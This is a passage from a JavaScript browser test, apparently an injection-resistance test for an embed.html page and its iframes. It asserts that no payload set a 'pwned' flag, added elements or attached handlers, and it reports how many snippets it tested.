        if (w.pwned !== undefined || w.added.length || w.on.length) found.push(`embed.html ${JSON.stringify(p)}: ${JSON.stringify(w)}`);
      }
      const seen = problems.splice(0).filter((x) => !x.startsWith("console.error: infographic:"));
      found.push(...seen);
    } finally {
      await context.close();
    }
    assert(found.length === 0, found.join("\n"));
    return `${PAYLOADS.length} snippets, 4 iframe pages`;
  });
}
